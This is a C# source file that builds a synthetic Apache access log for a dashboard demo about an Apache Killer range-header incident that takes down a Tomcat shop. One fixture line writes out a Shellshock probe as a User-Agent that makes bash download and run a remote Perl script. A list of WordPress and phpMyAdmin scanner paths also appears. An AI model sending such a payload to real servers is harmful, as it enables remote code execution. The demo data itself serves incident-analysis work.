using System.Globalization;

namespace Dashboard.Server.Demo;

/// <summary>
/// hoge's access log: a small company site (pages, a blog, a Tomcat shop under /shop/ behind
/// mod_proxy_ajp) visited by a few dozen people — a page, then its assets within a second or two,
/// then perhaps more pages — and by crawlers, a scanner or two, a monitoring check; and the
/// attacker's Apache-killer requests. Times are story times (JST), whole seconds.
/// </summary>
internal static class DemoAccessLog
{
    private const string Site = "http://hoge.example.jp";

    // killapache.pl sends "HEAD / HTTP/1.1" with a Range header of 1300 overlapping ranges and no
    // User-Agent or Referer; Apache logs the 206 and the few bytes of the answer, not the header.
    private const int AttackResponseBytes = 283;

    /// <summary>The attacker's requests per minute from 12:07: the ramp-up, 452 in 12:10–12:19, the last stragglers.</summary>
    internal static readonly int[] AttackPerMinute = [1, 3, 7, 14, 22, 31, 40, 47, 52, 58, 62, 64, 62, 9, 3];
    internal static readonly DateTimeOffset AttackRampFrom = DemoIncident.AttackFrom.AddMinutes(-3);

    /// <summary>Tomcat (the java the OOM killer takes first) answers nothing until the admin restarts it.</summary>
    private static readonly DateTimeOffset TomcatBack = DemoIncident.At(12, 38, 20);

    private static readonly DateTimeOffset ThrashFrom = DemoIncident.At(12, 22);
    private static readonly DateTimeOffset ThrashTo = DemoIncident.At(12, 34);

    private const string Chrome = "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/44.0.2403.155 Safari/537.36";
    private const string ChromeWin10 = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/44.0.2403.155 Safari/537.36";
    private const string Ie11 = "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko";
    private const string Ie11Touch = "Mozilla/5.0 (Windows NT 6.3; WOW64; Trident/7.0; Touch; rv:11.0) like Gecko";
    private const string Edge = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/42.0.2311.135 Safari/537.36 Edge/12.10240";
    private const string Firefox = "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:40.0) Gecko/20100101 Firefox/40.0";
    private const string MacSafari = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_10_4) AppleWebKit/600.7.12 (KHTML, like Gecko) Version/8.0.7 Safari/600.7.12";
    private const string MacChrome = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_10_4) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/44.0.2403.155 Safari/537.36";
    private const string IPhone = "Mozilla/5.0 (iPhone; CPU iPhone OS 8_4 like Mac OS X) AppleWebKit/600.1.4 (KHTML, like Gecko) Version/8.0 Mobile/12H143 Safari/600.1.4";
    private const string IPhoneLine = "Mozilla/5.0 (iPhone; CPU iPhone OS 8_4 like Mac OS X) AppleWebKit/600.1.4 (KHTML, like Gecko) Mobile/12H143 Safari Line/5.2.1";
    private const string IPad = "Mozilla/5.0 (iPad; CPU OS 8_4 like Mac OS X) AppleWebKit/600.1.4 (KHTML, like Gecko) Version/8.0 Mobile/12H143 Safari/600.1.4";
    private const string Xperia = "Mozilla/5.0 (Linux; Android 5.0.2; SO-01G Build/23.1.B.0.208) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/44.0.2403.133 Mobile Safari/537.36";
    private const string Galaxy = "Mozilla/5.0 (Linux; Android 5.0; SC-04G Build/LRX21T) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/44.0.2403.133 Mobile Safari/537.36";
    private const string AquosOld = "Mozilla/5.0 (Linux; U; Android 4.2.2; ja-jp; SHL23 Build/S3140) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30";

    private const string Googlebot = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
    private const string GooglebotSmartphone = "Mozilla/5.0 (iPhone; CPU iPhone OS 8_3 like Mac OS X) AppleWebKit/600.1.4 (KHTML, like Gecko) Version/8.0 Mobile/12F70 Safari/600.1.4 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
    private const string Bingbot = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)";
    private const string Baiduspider = "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)";
    private const string AhrefsBot = "Mozilla/5.0 (compatible; AhrefsBot/5.0; +http://ahrefs.com/robot/)";
    private const string NagiosCheck = "check_http/v1.4.16 (nagios-plugins 1.4.16)";

    /// <summary>People: an address (a few over IPv6) and the browser they use; the first ones come more often.</summary>
    private static readonly (string Ip, string Agent)[] People =
    [
        ("210.138.88.213", Ie11), ("126.236.41.18", IPhone), ("153.203.74.12", Chrome), ("2400:4050:2a83:8a00:4d5f:91a2:e8c3:1b77", Chrome),
        ("60.118.202.5", Firefox), ("49.98.143.66", Xperia), ("114.160.34.196", Ie11), ("1.75.7.240", Galaxy),
        ("219.110.162.81", MacSafari), ("240b:10:2b40:5f00:c1d3:6f47:2a11:904e", IPhone), ("106.161.170.44", AquosOld), ("180.12.96.201", ChromeWin10),
        ("122.24.151.90", Edge), ("182.250.246.35", IPhoneLine), ("118.238.211.167", Ie11Touch), ("61.195.65.4", Chrome),
        ("2001:240:2403:1c6f:59e8:1e64:b2d9:c08a", MacChrome), ("221.112.30.59", Ie11), ("133.201.4.98", IPad), ("175.177.5.137", Chrome),
        ("113.151.12.211", Firefox), ("58.89.140.221", IPhone), ("123.225.72.20", ChromeWin10), ("124.241.8.16", Ie11),
        ("14.13.75.66", Xperia), ("59.146.197.3", Chrome), ("2404:7a80:8b21:1b00:a9c0:2e14:7d5a:63f1", IPhone), ("222.151.210.77", MacSafari),
        ("220.213.242.101", Ie11), ("218.223.37.12", Chrome), ("101.102.233.210", Galaxy), ("110.3.244.28", Edge),
        ("115.39.166.104", IPhoneLine), ("183.77.252.190", Chrome), ("202.241.105.35", Ie11), ("210.233.80.94", Firefox),
        ("126.205.9.77", IPhone), ("27.84.23.120", IPad), ("2001:268:c046:5d8b:8d1:4f2b:1f0c:9e21", Xperia), ("153.156.42.178", Chrome),
    ];

    private sealed record Page(string Path, long Bytes, int EntryWeight, string? Image = null)
    {
        public bool Shop => Path.StartsWith("/shop/", StringComparison.Ordinal);
    }

    private static readonly Page[] Pages =
    [
        new("/", 18342, 30, "/img/top/main_visual.jpg"),
        new("/about/", 9120, 2),
        new("/news/", 11873, 2),
        new("/news/2015/08/obon-holiday.html", 7432, 10),
        new("/news/2015/07/summer-sale.html", 8211, 4, "/img/news/summer_sale_2015.jpg"),
        new("/products/", 15604, 8),
        new("/products/detail.php?id=1042", 12288, 8, "/img/products/1042_main.jpg"),
        new("/products/detail.php?id=2210", 11950, 3, "/img/products/2210_main.jpg"),
        new("/products/detail.php?id=3071", 12467, 2, "/img/products/3071_main.jpg"),
        new("/shop/list.do?cat=12", 21402, 5),
        new("/shop/item.do?code=A-1042", 17733, 8),
        new("/shop/cart.do", 9876, 0),
        new("/blog/", 14210, 2),
        new("/blog/2015/08/12/centos6-tuning.html", 23544, 15, "/img/blog/20150812_sar.png"),
        new("/blog/2015/07/28/summer-office.html", 16320, 3, "/img/blog/20150728_office.jpg"),
        new("/recruit/", 10442, 5),
        new("/contact/", 8760, 2),
        new("/access.html", 6980, 6, "/img/access_map.png"),
    ];

    private static readonly (string Path, long Bytes)[] Assets =
    [
        ("/css/style.css?v=20150701", 14822), ("/js/jquery-1.11.3.min.js", 95957), ("/js/common.js", 3214),
        ("/img/logo.png", 6120), ("/img/bnr_sale.png", 22410), ("/favicon.ico", 1150),
    ];

    private static readonly long[] ImageBytes = [148203, 61877, 88412, 54930, 120644, 31270, 42208, 27751];

    private static readonly (string Referer, int Weight)[] EntryReferers =
    [
        ("-", 30), ("https://www.google.co.jp/", 35), ("http://search.yahoo.co.jp/search?p=%E3%81%BB%E3%81%92&ei=UTF-8&fr=top_ga1_sa", 15),
        ("https://www.facebook.com/", 6), ("https://t.co/x2Rk8aQb1m", 4), ("http://b.hatena.ne.jp/entry/hoge.example.jp/blog/2015/08/12/centos6-tuning.html", 5),
        ("https://www.bing.com/search?q=hoge+%E6%A0%AA%E5%BC%8F%E4%BC%9A%E7%A4%BE&form=EDGTCT", 2),
    ];

    public static List<DemoRequest> Generate()
    {
        var random = new Random(20150817);
        List<DemoRequest> requests = [];
        AddVisits(random, requests);
        AddCrawlers(random, requests);
        AddScannersAndChecks(requests);
        AddAttack(random, requests);
        return [.. requests.OrderBy(r => r.Time)];
    }

    private static void AddVisits(Random random, List<DemoRequest> requests)
    {
        var span = (DemoIncident.End - DemoIncident.Start).TotalSeconds;
        var seconds = 0.0;
        while (true)
        {
            var at = DemoIncident.Start.AddSeconds((int)seconds);
            // Lunch time is busier; while the host thrashes, fewer requests complete at all.
            var meanGap = at >= ThrashFrom && at < ThrashTo ? 60.0 : at.Hour == 12 ? 30.0 : 36.0;
            seconds += Exponential(random, meanGap);
            if (seconds >= span - 180)
            {
                return;
            }
            Visit(random, requests, DemoIncident.Start.AddSeconds((int)seconds));
        }
    }

    private static void Visit(Random random, List<DemoRequest> requests, DateTimeOffset at)
    {
        // Rank r comes with weight 1/(r+3): regulars and passers-by.
        var (ip, agent) = People[PickWeighted(random, People.Length, i => 1.0 / (i + 3))];
        var returning = random.NextDouble() < 0.3;
        var page = Pages[PickWeighted(random, Pages.Length, i => Pages[i].EntryWeight)];
        var referer = EntryReferers[PickWeighted(random, EntryReferers.Length, i => EntryReferers[i].Weight)].Referer;
        if (!AddPage(random, requests, at, ip, agent, page, referer, withImage: true))
        {
            return;
        }
        foreach (var (path, bytes) in Assets)
        {
            var time = at.AddSeconds(random.Next(0, 3));
            if (!returning)
            {
                requests.Add(new(time, ip, "GET", path, "HTTP/1.1", 200, bytes, Site + page.Path, agent));
            }
            else if (path.StartsWith("/css/", StringComparison.Ordinal) || path.StartsWith("/js/", StringComparison.Ordinal))
            {
                requests.Add(new(time, ip, "GET", path, "HTTP/1.1", 304, 0, Site + page.Path, agent));
            }
        }
        if ((agent == IPhone || agent == IPad) && random.NextDouble() < 0.12)
        {
            requests.Add(new(at.AddSeconds(2), ip, "GET", "/apple-touch-icon-precomposed.png", "HTTP/1.1", 404, 229, "-", agent));
            requests.Add(new(at.AddSeconds(2), ip, "GET", "/apple-touch-icon.png", "HTTP/1.1", 404, 217, "-", agent));
        }
        var clickAt = at;
        var previous = page;
        for (var clicks = 0; clicks < 5 && random.NextDouble() < 0.55; clicks++)
        {
            clickAt = clickAt.AddSeconds(8 + (int)Exponential(random, 40));
            var next = Pages[random.Next(Pages.Length)];
            if (next == previous || clickAt >= DemoIncident.End)
            {
                break;
            }
            if (!AddPage(random, requests, clickAt, ip, agent, next, Site + previous.Path, withImage: random.NextDouble() < 0.8))
            {
                return;
            }
            previous = next;
        }
    }

    /// <summary>A page and its own image; false when the shop is down (the visitor gives up).</summary>
    private static bool AddPage(Random random, List<DemoRequest> requests, DateTimeOffset at, string ip, string agent, Page page, string referer, bool withImage)
    {
        if (page.Shop && at >= DemoIncident.FirstKill && at < TomcatBack)
        {
            // mod_proxy_ajp with Tomcat gone: Apache's own 503 page.
            requests.Add(new(at, ip, "GET", page.Path, "HTTP/1.1", 503, 323, referer, agent));
            return false;
        }
        var bytes = page.Path.Contains('?', StringComparison.Ordinal) || page.Shop ? page.Bytes + random.Next(-300, 300) : page.Bytes;
        requests.Add(new(at, ip, "GET", page.Path, "HTTP/1.1", 200, bytes, referer, agent));
        if (withImage && page.Image is { } image)
        {
            requests.Add(new(at.AddSeconds(1), ip, "GET", image, "HTTP/1.1", 200, ImageBytes[(int)((uint)image.Length % ImageBytes.Length)], Site + page.Path, agent));
        }
        return true;
    }

    private static void AddCrawlers(Random random, List<DemoRequest> requests)
    {
        string[] googlebots = ["66.249.79.118", "66.249.79.102", "66.249.79.95"];
        Crawl(random, requests, 75, _ => (googlebots[random.Next(googlebots.Length)], random.NextDouble() < 0.25 ? GooglebotSmartphone : Googlebot));
        string[] bingbots = ["157.55.39.211", "207.46.13.98"];
        Crawl(random, requests, 260, _ => (bingbots[random.Next(bingbots.Length)], Bingbot));
        Crawl(random, requests, 540, _ => ("180.76.15.147", Baiduspider));
        for (var i = 0; i < 6; i++)
        {
            var page = Pages[(i * 5) % Pages.Length];
            requests.Add(new(DemoIncident.At(11, 22, 10 + i * 9), "151.80.31.145", "GET", page.Path, "HTTP/1.1", 200, page.Bytes, "-", AhrefsBot));
        }
    }

    private static void Crawl(Random random, List<DemoRequest> requests, double meanGapSeconds, Func<DateTimeOffset, (string Ip, string Agent)> crawler)
    {
        var time = DemoIncident.Start.AddSeconds(random.Next((int)meanGapSeconds));
        var fetchedRobots = false;
        while (time < DemoIncident.End)
        {
            var (ip, agent) = crawler(time);
            if (!fetchedRobots)
            {
                requests.Add(new(time, ip, "GET", "/robots.txt", "HTTP/1.1", 200, 68, "-", agent));
                fetchedRobots = true;
            }
            else
            {
                var page = Pages[random.Next(Pages.Length)];
                var down = page.Shop && time >= DemoIncident.FirstKill && time < TomcatBack;
                requests.Add(new(time, ip, "GET", page.Path, "HTTP/1.1", down ? 503 : 200, down ? 323 : page.Bytes, "-", agent));
            }
            time = time.AddSeconds(10 + (int)Exponential(random, meanGapSeconds));
        }
    }

    private static void AddScannersAndChecks(List<DemoRequest> requests)
    {
        const string Scanner = "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:34.0) Gecko/20100101 Firefox/34.0";
        string[] probes = ["/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/phpmyadmin/", "/phpMyAdmin/scripts/setup.php", "/pma/", "/myadmin/"];
        for (var i = 0; i < probes.Length; i++)
        {
            requests.Add(new(DemoIncident.At(11, 37, 12 + i), "185.130.5.224", "GET", probes[i], "HTTP/1.1", 404, 208 + probes[i].Length, "-", Scanner));
        }
        // A Shellshock probe, still common in 2015: Apache escapes the quotes of its User-Agent.
        requests.Add(new(DemoIncident.At(12, 44, 51), "89.248.172.16", "GET", "/cgi-bin/test.cgi", "HTTP/1.1", 404, 213, "-",
            "() { :;}; /bin/bash -c \"wget -q -O /tmp/.x http://89.248.172.16/x.pl; perl /tmp/.x\""));
        for (var time = DemoIncident.At(11, 0, 7); time < DemoIncident.End; time = time.AddMinutes(5))
        {
            requests.Add(new(time, "153.127.33.20", "GET", "/", "HTTP/1.0", 200, 18342, "-", NagiosCheck));
        }
    }

    private static void AddAttack(Random random, List<DemoRequest> requests)
    {
        for (var minute = 0; minute < AttackPerMinute.Length; minute++)
        {
            for (var i = 0; i < AttackPerMinute[minute]; i++)
            {
                var time = AttackRampFrom.AddMinutes(minute).AddSeconds(random.Next(60));
                requests.Add(new(time, DemoIncident.Attacker, "HEAD", "/", "HTTP/1.1", 206, AttackResponseBytes, "-", "-"));
            }
        }
    }

    private static double Exponential(Random random, double mean) => -mean * Math.Log(1 - random.NextDouble());

    private static int PickWeighted(Random random, int count, Func<int, double> weight)
    {
        var total = 0.0;
        for (var i = 0; i < count; i++)
        {
            total += weight(i);
        }
        var pick = random.NextDouble() * total;
        for (var i = 0; i < count; i++)
        {
            pick -= weight(i);
            if (pick < 0)
            {
                return i;
            }
        }
        return count - 1;
    }
}

/// <summary>One request as Apache's combined format logs it.</summary>
internal sealed record DemoRequest(
    DateTimeOffset Time, string Ip, string Method, string Path, string Protocol, int Status, long Bytes, string Referer, string UserAgent)
{
    /// <summary>The line, written at <paramref name="localTime"/> (this request's time, shifted, in the host's zone).</summary>
    public string Format(DateTimeOffset localTime)
    {
        var offset = localTime.Offset;
        var sign = offset < TimeSpan.Zero ? '-' : '+';
        // %b writes "-" for no body (a 304).
        var bytes = Bytes == 0 ? "-" : Bytes.ToString(CultureInfo.InvariantCulture);
        return string.Create(CultureInfo.InvariantCulture,
            $"{Ip} - - [{localTime:dd/MMM/yyyy:HH:mm:ss} {sign}{Math.Abs(offset.Hours):00}{Math.Abs(offset.Minutes):00}] \"{Method} {Path} {Protocol}\" {Status} {bytes} \"{Escape(Referer)}\" \"{Escape(UserAgent)}\"");
    }

    // ap_escape_logitem: a quote or backslash in a header is written with a backslash before it.
    private static string Escape(string value) => value.Replace("\\", "\\\\", StringComparison.Ordinal).Replace("\"", "\\\"", StringComparison.Ordinal);
}
